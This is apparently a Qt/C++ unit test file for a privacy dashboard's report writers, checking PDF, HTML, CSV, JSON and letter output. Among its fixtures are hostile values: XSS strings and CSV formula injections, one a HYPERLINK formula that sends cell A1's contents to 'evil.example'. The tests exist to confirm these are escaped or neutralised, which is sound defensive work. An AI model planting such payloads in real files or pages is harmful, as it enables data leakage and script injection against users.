// The report writers, checked the way a reader would: golden files for the demo member,
// pdfinfo/pdftotext for the PDF, a real HTML parser, Python's csv module and a JSON Schema
// validator the project did not write, with hostile values in the member's data.
#include "core/MemberText.h"
#include "report/CsvReportWriter.h"
#include "report/JsonReportWriter.h"
#include "report/ObjectionLetter.h"
#include "report/ReportHtml.h"
#include "report/ReportWriter.h"
#include "ReportFixtures.h"

#include <QDir>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <QTest>
#include <QThread>

using namespace pd;
using namespace pd::test;

namespace {

const QString Python = QStringLiteral("/usr/bin/python3");

QString sourcePath(const QString &relative)
{
    return QStringLiteral(PD_SOURCE_DIR "/") + relative;
}

struct Run {
    int exitCode = -1;
    QByteArray out;
    QByteArray err;
};

Run run(const QString &program, const QStringList &arguments, const QByteArray &input = {})
{
    QProcess process;
    process.start(program, arguments);
    if (!process.waitForStarted(10000))
        return {};
    process.write(input);
    process.closeWriteChannel();
    process.waitForFinished(60000);
    return {process.exitStatus() == QProcess::NormalExit ? process.exitCode() : -1, process.readAllStandardOutput(),
            process.readAllStandardError()};
}

QByteArray readFile(const QString &path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

QString pdfText(const QString &path)
{
    const Run text = run(QStringLiteral(PD_PDFTOTEXT), {path, QStringLiteral("-")});
    return QString::fromUtf8(text.out).simplified();
}

QString neutralised(const QString &value)
{
    if (value.isEmpty())
        return value;
    const QChar first = value.front();
    return QStringLiteral("=+-@\t\r").contains(first) || first == QChar(u'\0') ? u'\'' + value : value;
}

QByteArray hostileJson()
{
    return QJsonDocument(QJsonArray::fromStringList(hostileValues())).toJson(QJsonDocument::Compact);
}

} // namespace

class TestReportWriters : public QObject
{
    Q_OBJECT

private:
    QTemporaryDir m_dir;

    QString path(const QString &name) const { return m_dir.filePath(name); }

    QString writeOrFail(const UsageReport &report, ReportFormat format, const QString &name, ReportOptions options = {})
    {
        options.overwrite = true;
        const Result<QStringList> written = writeReport(report, format, path(name), options);
        if (!written)
            qWarning("%s", qPrintable(written.error().message));
        return written ? written->first() : QString();
    }

private Q_SLOTS:
    void initTestCase()
    {
        QVERIFY(m_dir.isValid());
        QVERIFY2(QFile::exists(QStringLiteral(PD_PDFINFO)), "pdfinfo (poppler-utils) is needed");
        QVERIFY2(QFile::exists(Python), "/usr/bin/python3 is needed");
    }

    // Golden files: the demo member at a fixed time. PD_UPDATE_GOLDEN=1 rewrites them.
    void goldenFiles_data()
    {
        QTest::addColumn<QString>("golden");
        QTest::addColumn<QByteArray>("actual");
        const UsageReport report = demoReport();
        QTest::newRow("html") << QStringLiteral("report.html") << renderReport(report, ReportFormat::Html).value();
        QTest::newRow("csv") << QStringLiteral("report.csv") << renderReport(report, ReportFormat::Csv).value();
        QTest::newRow("csv history") << QStringLiteral("report-history.csv") << renderCsvHistory(report);
        QTest::newRow("json") << QStringLiteral("report.json") << renderReport(report, ReportFormat::Json).value();
        QTest::newRow("letter") << QStringLiteral("letter.txt") << renderReport(report, ReportFormat::Letter).value();
    }

    void goldenFiles()
    {
        QFETCH(QString, golden);
        QFETCH(QByteArray, actual);
        const QString goldenPath = sourcePath(QStringLiteral("tests/unit/report/golden/") + golden);
        if (qEnvironmentVariableIsSet("PD_UPDATE_GOLDEN")) {
            QFile file(goldenPath);
            QVERIFY(file.open(QIODevice::WriteOnly));
            file.write(actual);
        }
        const QByteArray expected = readFile(goldenPath);
        QVERIFY2(!expected.isEmpty(), qPrintable(goldenPath));
        if (actual != expected) {
            const QList<QByteArray> a = actual.split('\n');
            const QList<QByteArray> b = expected.split('\n');
            for (qsizetype i = 0; i < std::min(a.size(), b.size()); ++i) {
                if (a.at(i) != b.at(i))
                    QFAIL(qPrintable(QStringLiteral("%1 differs at line %2:\n got: %3\nwant: %4")
                                         .arg(golden)
                                         .arg(i + 1)
                                         .arg(QString::fromUtf8(a.at(i)), QString::fromUtf8(b.at(i)))));
            }
            QFAIL(qPrintable(golden + QStringLiteral(" differs in length")));
        }
    }

    void pdfHasPagesMetadataFontsAndTheFigures_data()
    {
        QTest::addColumn<int>("paper");
        QTest::addColumn<QString>("pageSize");
        QTest::newRow("A4") << int(ReportOptions::Paper::A4) << QStringLiteral("(A4)");
        QTest::newRow("Letter") << int(ReportOptions::Paper::Letter) << QStringLiteral("(letter)");
    }

    void pdfHasPagesMetadataFontsAndTheFigures()
    {
        QFETCH(int, paper);
        QFETCH(QString, pageSize);
        const UsageReport report = demoReport();
        ReportOptions options;
        options.paper = ReportOptions::Paper(paper);
        const QString file =
            writeOrFail(report, ReportFormat::Pdf, QStringLiteral("report-%1.pdf").arg(paper), options);
        QVERIFY(!file.isEmpty());

        const QString info = QString::fromUtf8(run(QStringLiteral(PD_PDFINFO), {file}).out);
        QVERIFY2(info.contains(QStringLiteral("Title:           Generative-AI training report for Alex Morgan")),
                 qPrintable(info));
        QVERIFY2(info.contains(QStringLiteral("Author:          Alex Morgan")), qPrintable(info));
        QVERIFY2(info.contains(QStringLiteral("Creator:         Privacy Dashboard")), qPrintable(info));
        QVERIFY2(info.contains(QStringLiteral("CreationDate:    Sun Nov 29 09:00:00 2026 UTC")), qPrintable(info));
        QVERIFY2(info.contains(pageSize), qPrintable(info));
        const QRegularExpressionMatch pages = QRegularExpression(QStringLiteral("Pages:\\s+(\\d+)")).match(info);
        QVERIFY(pages.hasMatch());
        QVERIFY2(pages.captured(1).toInt() >= 4, qPrintable(info)); // title page, chart, tables, rights

        // Every font is embedded.
        const QString fonts = QString::fromUtf8(run(QStringLiteral("pdffonts"), {file}).out);
        const QStringList lines = fonts.split(u'\n', Qt::SkipEmptyParts).mid(2);
        QVERIFY2(!lines.isEmpty(), qPrintable(fonts));
        for (const QString &line : lines) {
            const QStringList columns = line.split(u' ', Qt::SkipEmptyParts);
            QVERIFY2(columns.size() >= 5 && columns.at(columns.size() - 5) == u"yes", qPrintable(line));
        }

        const QString text = pdfText(file);
        QVERIFY(text.contains(QStringLiteral("Opting out stops future training on your data, but it does not undo "
                                             "training that has already taken place")));
        QVERIFY(text.contains(report.memberFigures));
        QVERIFY(text.contains(QStringLiteral("Page 1 of ")));
        QVERIFY(text.contains(report.summary.optOut.confirmationId));
        for (const CategorySummary &category : report.summary.categories) {
            QVERIFY2(text.contains(category.label), qPrintable(category.label));
            QVERIFY2(text.contains(report.wordingOf(category.id).reason),
                     qPrintable(report.wordingOf(category.id).reason));
        }
        QVERIFY(text.contains(MemberText::count(report.summary.totalItems)));
        QVERIFY(text.contains(MemberText::count(report.summary.totalMayHaveBeenUsed)));
        for (const QString &line : report.limitations)
            QVERIFY2(text.contains(line), qPrintable(line));
    }

    // A heading never ends a page: it moves to the next page with the first line it heads. Longer
    // histories push the sections after it down line by line, so one of them meets a page end.
    void headingsStayWithTheirFirstParagraph()
    {
        QStringList headings;
        const QRegularExpression heading(QStringLiteral("<h[1-4][^>]*>([^<]+)</h[1-4]>"));
        const UsageReport base = demoReport();
        for (const QRegularExpressionMatch &match :
             heading.globalMatch(ReportHtml::document(base, ReportHtml::Flavour::RichText)))
            headings.append(match.captured(1).simplified().replace(QStringLiteral("&amp;"), QStringLiteral("&")));
        QVERIFY(headings.size() >= 8);
        int pagesChecked = 0;
        for (int extra = 0; extra < 40; extra += 3) {
            UsageReport report = base;
            for (int i = 0; i < extra; ++i)
                report.summary.history.append(report.summary.history.first());
            const QString file = writeOrFail(report, ReportFormat::Pdf, QStringLiteral("headings.pdf"));
            QVERIFY(!file.isEmpty());
            const QString info = QString::fromUtf8(run(QStringLiteral(PD_PDFINFO), {file}).out);
            const int pages = QRegularExpression(QStringLiteral("Pages:\\s+(\\d+)")).match(info).captured(1).toInt();
            QVERIFY(pages > 1);
            for (int page = 1; page <= pages; ++page) {
                const QString number = QString::number(page);
                const QString text = QString::fromUtf8(
                    run(QStringLiteral(PD_PDFTOTEXT),
                        {QStringLiteral("-f"), number, QStringLiteral("-l"), number, file, QStringLiteral("-")})
                        .out);
                QStringList lines;
                for (const QString &line : text.split(u'\n')) {
                    const QString trimmed = line.simplified();
                    // The footer: the title and "Page n of m".
                    if (!trimmed.isEmpty() && !trimmed.startsWith(QStringLiteral("Page ")) &&
                        !report.title.startsWith(trimmed.chopped(trimmed.endsWith(u'…') ? 1 : 0)))
                        lines.append(trimmed);
                }
                QVERIFY2(lines.isEmpty() || !headings.contains(lines.last()),
                         qPrintable(QStringLiteral("page %1 of %2 (%3 extra changes) ends with the heading \"%4\"")
                                        .arg(page)
                                        .arg(pages)
                                        .arg(extra)
                                        .arg(lines.last())));
                ++pagesChecked;
            }
        }
        QVERIFY(pagesChecked > 40);
    }

    void paperFollowsTheLocaleUnlessChosen()
    {
        QCOMPARE(paperForLocale(QLocale(QStringLiteral("en_US"))), ReportOptions::Paper::Letter);
        QCOMPARE(paperForLocale(QLocale(QStringLiteral("de_DE"))), ReportOptions::Paper::A4);
        QCOMPARE(paperForLocale(QLocale(QStringLiteral("en_GB"))), ReportOptions::Paper::A4);
        QCOMPARE(paperFromString(QStringLiteral("a4")), ReportOptions::Paper::A4);
        QCOMPARE(paperFromString(QStringLiteral("letter")), ReportOptions::Paper::Letter);
        QVERIFY(!paperFromString(QStringLiteral("legal")));
    }

    void letterNamesTheMemberCategoriesAndConfirmation()
    {
        const UsageReport report = demoReport();
        const QString file = writeOrFail(report, ReportFormat::LetterPdf, QStringLiteral("letter.pdf"));
        QVERIFY(!file.isEmpty());
        const QString text = pdfText(file);
        QVERIFY(text.contains(QStringLiteral("From: Alex Morgan")));
        QVERIFY(text.contains(QStringLiteral("Article 21(1)")));
        QVERIFY(text.contains(QStringLiteral("(confirmation id %1)").arg(report.summary.optOut.confirmationId)));
        QVERIFY(text.contains(QStringLiteral("Posts and shares: 606 items")));
        QVERIFY(!text.contains(QStringLiteral("Private messages"))); // not processed for training
        const QString plain = QString::fromUtf8(renderReport(report, ReportFormat::Letter).value()).simplified();
        QCOMPARE(text.left(200), plain.left(200));
    }

    void pdfRendersOnAWorkerThread()
    {
        const UsageReport report = demoReport();
        Result<QByteArray> result = Error::internal(QStringLiteral("not run"));
        std::unique_ptr<QThread> worker(QThread::create([&] { result = renderReport(report, ReportFormat::Pdf); }));
        worker->start();
        QVERIFY(worker->wait(60000));
        QVERIFY2(result.ok(), result.ok() ? "" : qPrintable(result.error().message));
        QVERIFY(result->startsWith("%PDF-"));
    }

    void htmlShowsHostileValuesAsTextAndLoadsNothing()
    {
        const UsageReport report = hostileReport();
        const QString file = writeOrFail(report, ReportFormat::Html, QStringLiteral("hostile.html"));
        QVERIFY(!file.isEmpty());
        const Run check =
            run(Python, {sourcePath(QStringLiteral("tests/unit/report/check_html.py")), file}, hostileJson());
        QVERIFY2(check.exitCode == 0, check.out.constData());

        const Run demo = run(Python,
                             {sourcePath(QStringLiteral("tests/unit/report/check_html.py")),
                              writeOrFail(demoReport(), ReportFormat::Html, QStringLiteral("demo.html"))},
                             "[]");
        QVERIFY2(demo.exitCode == 0, demo.out.constData());
    }

    void pdfShowsHostileValuesAsText()
    {
        const QString file = writeOrFail(hostileReport(), ReportFormat::Pdf, QStringLiteral("hostile.pdf"));
        QVERIFY(!file.isEmpty());
        const QString text = pdfText(file);
        QVERIFY2(text.contains(QStringLiteral("<script>alert(1)</script>")), qPrintable(text.left(2000)));
        QVERIFY(text.contains(QStringLiteral("<img src=\"file:///etc/hostname\">")));
        QVERIFY(text.contains(QStringLiteral("\"><img src=x onerror=alert(2)>")));
    }

    void csvReadsBackWithFormulasNeutralised()
    {
        const UsageReport report = hostileReport();
        const QString file = writeOrFail(report, ReportFormat::Csv, QStringLiteral("hostile.csv"));
        QVERIFY(!file.isEmpty());
        const Run read = run(Python, {sourcePath(QStringLiteral("tests/unit/report/read_csv.py")), file,
                                      CsvReportWriter::historyPathFor(file)});
        QVERIFY2(read.exitCode == 0, read.err.constData());
        const QJsonArray files = QJsonDocument::fromJson(read.out).array();
        QCOMPARE(files.size(), 2);

        const QJsonArray categories = files.at(0).toArray();
        QCOMPARE(categories.size(), report.summary.categories.size() + 1);
        QCOMPARE(categories.at(0).toArray().at(1).toString(), QStringLiteral("category"));
        for (qsizetype i = 0; i < report.summary.categories.size(); ++i) {
            const QJsonArray row = categories.at(i + 1).toArray();
            const CategorySummary &category = report.summary.categories.at(i);
            QCOMPARE(row.at(0).toString(), neutralised(category.id));
            QCOMPARE(row.at(1).toString(), neutralised(category.label));
            QCOMPARE(row.at(3).toString(), QString::number(category.itemCount));
            QCOMPARE(row.at(6).toString(), QString::number(category.mayHaveBeenUsed));
            QCOMPARE(row.at(7).toString(), QString::number(category.exposedIfUsed));
            QCOMPARE(row.at(8).toString(), QString::number(category.notUsed));
            QCOMPARE(row.at(11).toString(), neutralised(report.summary.member.name));
            for (const QJsonValue &field : row) {
                const QString value = field.toString();
                QVERIFY2(value.isEmpty() || !QStringLiteral("=+-@\t\r").contains(value.front()), qPrintable(value));
            }
        }
        QCOMPARE(categories.at(5).toArray().at(1).toString(),
                 QStringLiteral("'=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")"));
        QCOMPARE(categories.at(10).toArray().at(1).toString(), QStringLiteral("line one\nline \"two\", three"));

        const QJsonArray history = files.at(1).toArray();
        QCOMPARE(history.size(), 2);
        QCOMPARE(history.at(1).toArray().at(0).toString(), QStringLiteral("2024-10-02T08:15:00Z"));
        QCOMPARE(history.at(1).toArray().at(1).toString(), QStringLiteral("true"));
        QCOMPARE(history.at(1).toArray().at(3).toString(), QStringLiteral("'@SUM(A1:A2)"));
    }

    void jsonValidatesAgainstTheSchemaWithItsDigest_data()
    {
        QTest::addColumn<bool>("hostile");
        QTest::newRow("demo member") << false;
        QTest::newRow("hostile values") << true;
    }

    void jsonValidatesAgainstTheSchemaWithItsDigest()
    {
        QFETCH(bool, hostile);
        const UsageReport report = hostile ? hostileReport() : demoReport();
        const QString file = writeOrFail(report, ReportFormat::Json, QStringLiteral("report-%1.json").arg(hostile));
        QVERIFY(!file.isEmpty());
        const QString schema = sourcePath(QStringLiteral("resources/schema/usage-report.schema.json"));
        const Run ours = run(Python, {sourcePath(QStringLiteral("tests/schema/validate_json.py")), schema, file});
        QVERIFY2(ours.exitCode == 0, QByteArray(ours.out + ours.err).constData());
        const Run theirs =
            run(Python, {QStringLiteral("-m"), QStringLiteral("jsonschema"), QStringLiteral("-i"), file, schema});
        QVERIFY2(theirs.exitCode == 0, QByteArray(theirs.out + theirs.err).constData());

        // The digest, recomputed by an independent implementation.
        const Run digest = run(Python, {QStringLiteral("-c"), QStringLiteral(R"(
import hashlib, json, sys
doc = json.load(open(sys.argv[1], encoding="utf-8"))
claimed = doc.pop("integrity")["sha256"]
canonical = json.dumps(doc, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode("utf-8")
sys.exit(0 if hashlib.sha256(canonical).hexdigest() == claimed else 1)
)"),
                                        file});
        QVERIFY2(digest.exitCode == 0, digest.err.constData());

        const QJsonObject document = QJsonDocument::fromJson(readFile(file)).object();
        QVERIFY(JsonReportWriter::verify(document));
        QJsonObject tampered = document;
        QJsonObject totals = tampered.value(QStringLiteral("totals")).toObject();
        totals.insert(QStringLiteral("mayHaveBeenUsed"), 0);
        tampered.insert(QStringLiteral("totals"), totals);
        QVERIFY(!JsonReportWriter::verify(tampered));

        // Values unaltered: no neutralising, no escaping beyond JSON's own.
        const QJsonObject member = document.value(QStringLiteral("member")).toObject();
        QCOMPARE(member.value(QStringLiteral("name")).toString(), report.summary.member.name);
        QCOMPARE(member.value(QStringLiteral("id")).toString(), report.summary.member.id);
        QCOMPARE(document.value(QStringLiteral("totals")).toObject().value(QStringLiteral("itemCount")).toInteger(),
                 report.summary.totalItems);
    }

    // The demo member (US, opted out 2 Oct 2024): 3,853 items of used categories may have been
    // used; 4,813 of categories the platform has not said either way existed during the training
    // window. Every format states both, apart; none states their sum (8,666) as a figure.
    void everyFormatStatesBothFiguresApart_data()
    {
        QTest::addColumn<int>("format");
        QTest::newRow("pdf") << int(ReportFormat::Pdf);
        QTest::newRow("html") << int(ReportFormat::Html);
        QTest::newRow("csv") << int(ReportFormat::Csv);
        QTest::newRow("json") << int(ReportFormat::Json);
        QTest::newRow("letter") << int(ReportFormat::Letter);
        QTest::newRow("letter pdf") << int(ReportFormat::LetterPdf);
    }

    void everyFormatStatesBothFiguresApart()
    {
        QFETCH(int, format);
        const UsageReport report = demoReport();
        QCOMPARE(report.summary.totalMayHaveBeenUsed, 3853);
        QCOMPARE(report.summary.totalExposedIfUsed, 4813);
        const QString file = writeOrFail(report, ReportFormat(format),
                                         QStringLiteral("figures-%1").arg(format) +
                                             (format == int(ReportFormat::Csv)    ? QStringLiteral(".csv")
                                              : format == int(ReportFormat::Json) ? QStringLiteral(".json")
                                                                                  : QString()));
        QVERIFY(!file.isEmpty());
        const QString words = exposedIfUsedWords();

        switch (ReportFormat(format)) {
        case ReportFormat::Pdf:
        case ReportFormat::Html: {
            QString text;
            if (ReportFormat(format) == ReportFormat::Pdf) {
                text = pdfText(file);
            } else {
                const Run plain = run(Python, {QStringLiteral("-c"), QStringLiteral(R"(
import html.parser, sys
class P(html.parser.HTMLParser):
    def __init__(self):
        super().__init__(); self.out = []
    def handle_data(self, data): self.out.append(data)
p = P(); p.feed(open(sys.argv[1], encoding="utf-8").read()); print(" ".join(p.out))
)"),
                                               file});
                QCOMPARE(plain.exitCode, 0);
                text = QString::fromUtf8(plain.out).simplified();
            }
            QVERIFY2(text.contains(QStringLiteral("16,340 items · 3,853 may have been used · 4,813 ") + words +
                                   QStringLiteral(" · 7,674 not used")),
                     qPrintable(text.left(600)));
            QVERIFY(text.contains(QStringLiteral("Of your 16,340 items, 3,853 may already have been used")));
            QVERIFY(text.contains(QStringLiteral("Separately, 4,813 items ") + words));
            QVERIFY(text.contains(QStringLiteral("Not said either way")));
            QVERIFY(!text.contains(QStringLiteral("8,666")));
            if (ReportFormat(format) == ReportFormat::Html) {
                const QString html = QString::fromUtf8(readFile(file));
                // The chart's own series and legend entry, in the member's words.
                QVERIFY(html.contains(QStringLiteral("fill=\"#cc79a7\"")));
                QVERIFY(html.contains(QStringLiteral("<text x=\"")) && html.contains(u'>' + words + u'<'));
            }
            break;
        }
        case ReportFormat::Csv: {
            const Run read = run(Python, {sourcePath(QStringLiteral("tests/unit/report/read_csv.py")), file,
                                          CsvReportWriter::historyPathFor(file)});
            QVERIFY2(read.exitCode == 0, read.err.constData());
            const QJsonArray rows = QJsonDocument::fromJson(read.out).array().at(0).toArray();
            QCOMPARE(rows.at(0).toArray().at(6).toString(), QStringLiteral("may_have_been_used"));
            QCOMPARE(rows.at(0).toArray().at(7).toString(), QStringLiteral("exposed_if_used"));
            qint64 used = 0;
            qint64 exposed = 0;
            for (qsizetype i = 1; i < rows.size(); ++i) {
                const QJsonArray row = rows.at(i).toArray();
                used += row.at(6).toString().toLongLong();
                exposed += row.at(7).toString().toLongLong();
                if (row.at(0).toString() == u"reactions") {
                    QCOMPARE(row.at(6).toString(), QStringLiteral("0"));
                    QCOMPARE(row.at(7).toString(), QStringLiteral("2363"));
                }
            }
            QCOMPARE(used, 3853);
            QCOMPARE(exposed, 4813);
            break;
        }
        case ReportFormat::Json: {
            const QJsonObject document = QJsonDocument::fromJson(readFile(file)).object();
            QCOMPARE(document.value(QStringLiteral("formatVersion")).toInt(), 2);
            const QJsonObject totals = document.value(QStringLiteral("totals")).toObject();
            QCOMPARE(totals.value(QStringLiteral("mayHaveBeenUsed")).toInteger(), 3853);
            QCOMPARE(totals.value(QStringLiteral("exposedIfUsed")).toInteger(), 4813);
            QCOMPARE(totals.value(QStringLiteral("notUsed")).toInteger(), 7674);
            qint64 monthlyExposed = 0;
            for (const QJsonValue &month : document.value(QStringLiteral("monthly")).toArray())
                monthlyExposed += month.toObject().value(QStringLiteral("exposedIfUsed")).toInteger();
            QVERIFY(monthlyExposed > 0);
            for (const QJsonValue &value : document.value(QStringLiteral("categories")).toArray()) {
                const QJsonObject category = value.toObject();
                if (category.value(QStringLiteral("id")).toString() != u"reactions")
                    continue;
                QCOMPARE(category.value(QStringLiteral("mayHaveBeenUsed")).toInteger(), 0);
                QCOMPARE(category.value(QStringLiteral("exposedIfUsed")).toInteger(), 2363);
            }
            break;
        }
        case ReportFormat::Letter:
        case ReportFormat::LetterPdf: {
            const QString text = ReportFormat(format) == ReportFormat::Letter
                                     ? QString::fromUtf8(readFile(file)).simplified()
                                     : pdfText(file);
            QVERIFY(text.contains(QStringLiteral("In total 3,853 of my items may already have been used")));
            QVERIFY(text.contains(QStringLiteral("Separately, 4,813 of my items ") + words));
            QVERIFY(text.contains(QStringLiteral("and these, ") + words));
            QVERIFY2(text.contains(QStringLiteral("Reactions: 3,596 items (15 March 2019 to 15 November 2026), of "
                                                  "which 2,363 existed during a training period")),
                     qPrintable(text));
            // "May have been used" is said of used categories only.
            QCOMPARE(text.count(QStringLiteral("may already have been used")), 8 + 1); // 8 categories, the total
            QVERIFY(!text.contains(QStringLiteral("8,666")));
            break;
        }
        }
    }

    void refusesToOverwriteAndWritesPrivateFiles()
    {
        const UsageReport report = demoReport();
        const QString target = path(QStringLiteral("existing.json"));
        {
            QFile old(target);
            QVERIFY(old.open(QIODevice::WriteOnly));
            old.write("old content");
        }
        const Result<QStringList> refused = writeReport(report, ReportFormat::Json, target);
        QVERIFY(!refused.ok());
        QCOMPARE(refused.error().kind, ErrorKind::Usage);
        QCOMPARE(refused.error().code, ErrorCode::FileExists);
        QVERIFY(refused.error().message.contains(QStringLiteral("already exists")));
        QCOMPARE(readFile(target), QByteArray("old content"));

        ReportOptions overwrite;
        overwrite.overwrite = true;
        QVERIFY(writeReport(report, ReportFormat::Json, target, overwrite).ok());
        QVERIFY(readFile(target).startsWith("{"));

        const QString fresh = path(QStringLiteral("fresh.html"));
        QVERIFY(writeReport(report, ReportFormat::Html, fresh).ok());
        QCOMPARE(QFile::permissions(fresh) & ~(QFileDevice::ReadUser | QFileDevice::WriteUser),
                 QFileDevice::ReadOwner | QFileDevice::WriteOwner);
    }

    void csvChecksBothFilesBeforeWritingEither()
    {
        const QString target = path(QStringLiteral("pair.csv"));
        {
            QFile history(CsvReportWriter::historyPathFor(target));
            QVERIFY(history.open(QIODevice::WriteOnly));
        }
        const Result<QStringList> refused = writeReport(demoReport(), ReportFormat::Csv, target);
        QVERIFY(!refused.ok());
        QVERIFY(!QFile::exists(target));
        QCOMPARE(CsvReportWriter::historyPathFor(QStringLiteral("/a/b.csv")), QStringLiteral("/a/b-history.csv"));
        QCOMPARE(CsvReportWriter::historyPathFor(QStringLiteral("/a/b")), QStringLiteral("/a/b-history.csv"));
    }

    void aFailedWriteLeavesNoFile()
    {
        const QString target = path(QStringLiteral("missing-dir/report.json"));
        const Result<QStringList> failed = writeReport(demoReport(), ReportFormat::Json, target);
        QVERIFY(!failed.ok());
        QCOMPARE(failed.error().kind, ErrorKind::InvalidInput);
        QVERIFY(!QFile::exists(target));
        QVERIFY(!QDir(path(QStringLiteral("missing-dir"))).exists());
    }

    // Issue 15: CSV (a third file) and JSON list every item that may have been used; HTML and PDF
    // the first ReportItemsAppendix::PrintedItems and the count; the letter cites them per category.
    void itemsAppendixInEveryFormat()
    {
        const UsageReport report = demoReportWithItems();
        QVERIFY(report.itemsAppendix);
        const qsizetype all = report.itemsAppendix->items.size();
        qint64 expected = 0;
        for (const CategorySummary &category : report.summary.categories) {
            if (report.policy.listedCategories().contains(category.id))
                expected += category.mayHaveBeenUsed;
        }
        QCOMPARE(qint64(all), expected);
        QCOMPARE(report.itemsAppendix->categories.first().id, QStringLiteral("posts"));
        QCOMPARE(report.itemsAppendix->categories.first().count, 396);

        const QString csv = writeOrFail(report, ReportFormat::Csv, QStringLiteral("appendix.csv"));
        QVERIFY(!csv.isEmpty());
        QFile items(CsvReportWriter::itemsPathFor(csv));
        QVERIFY(items.open(QIODevice::ReadOnly));
        QCOMPARE(items.readAll().count("\r\n"), all + 1);

        const QJsonObject json = JsonReportWriter::encode(report);
        QCOMPARE(json[QStringLiteral("itemsAppendix")][QStringLiteral("items")].toArray().size(), all);
        QVERIFY(JsonReportWriter::verify(json));

        const Result<QByteArray> html = renderReport(report, ReportFormat::Html);
        QVERIFY(html.ok());
        const QString page = QString::fromUtf8(*html);
        QVERIFY(page.contains(QStringLiteral("1,592 items may have been used. This appendix shows the first 200")));
        const qsizetype table = page.indexOf(QStringLiteral("Appendix: the items that may have been used</h2>"));
        QVERIFY(table > 0);
        QCOMPARE(page.mid(table).count(QStringLiteral("<tr><td>")), 200 + report.itemsAppendix->categories.size());

        const QString letter = ObjectionLetter::text(report);
        QVERIFY2(
            letter.contains(QStringLiteral("- Posts and shares: 396 items, dated 20 March 2019 to 2 October 2024")),
            qPrintable(letter));

        // Without the option nothing changes (the golden files stay as they are).
        QVERIFY(!demoReport().itemsAppendix);
        QVERIFY(
            !QString::fromUtf8(*renderReport(demoReport(), ReportFormat::Html)).contains(QStringLiteral("Appendix")));
    }

    void formatNamesRoundTrip()
    {
        for (const ReportFormat format : {ReportFormat::Pdf, ReportFormat::Html, ReportFormat::Csv, ReportFormat::Json,
                                          ReportFormat::Letter, ReportFormat::LetterPdf})
            QVERIFY(reportFormatFromString(toString(format)) == format);
        QVERIFY(!reportFormatFromString(QStringLiteral("docx")));
    }

    // Writes the examples shipped in docs/examples when PD_REPORT_EXAMPLES_DIR is set.
    void writeExamples()
    {
        const QString dir = qEnvironmentVariable("PD_REPORT_EXAMPLES_DIR");
        if (dir.isEmpty())
            QSKIP("PD_REPORT_EXAMPLES_DIR not set");
        const UsageReport report = demoReport();
        ReportOptions options;
        options.overwrite = true;
        const QList<std::pair<ReportFormat, QString>> files = {
            {ReportFormat::Pdf, QStringLiteral("report.pdf")},
            {ReportFormat::Html, QStringLiteral("report.html")},
            {ReportFormat::Csv, QStringLiteral("report.csv")},
            {ReportFormat::Json, QStringLiteral("report.json")},
            {ReportFormat::Letter, QStringLiteral("letter.txt")},
            {ReportFormat::LetterPdf, QStringLiteral("letter.pdf")},
        };
        for (const auto &[format, name] : files)
            QVERIFY(writeReport(report, format, QDir(dir).filePath(name), options).ok());
    }
};

QTEST_MAIN(TestReportWriters)
#include "TestReportWriters.moc"
